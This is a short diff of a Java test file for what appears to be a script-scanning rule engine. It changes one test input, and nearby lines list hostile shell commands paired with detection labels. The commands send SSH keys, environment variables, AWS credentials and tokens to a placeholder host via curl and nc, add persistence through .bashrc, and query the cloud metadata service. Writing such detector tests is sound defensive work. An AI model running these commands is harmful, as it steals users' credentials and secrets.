@@ -76,7 +76,7 @@ class ScriptRulesTest {
                 "cat payload >> $HOME/.bashrc§script.persistence",
                 "tar cz ~/.ssh | curl -F f=@- http://x§script.exfiltration",
                 "curl -d \"$(env)\" http://x§script.exfiltration",
-                "curl --data @/root/.aws/credentials http://x§script.exfiltration",
+                "curl --data @$HOME/.aws/credentials http://x§script.exfiltration",
                 "curl \"http://x/?t=$HF_TOKEN\"§script.exfiltration",
                 "env | nc x 99§script.exfiltration",
                 "curl http://169.254.169.254/latest/meta-data/iam§script.metadata-service",
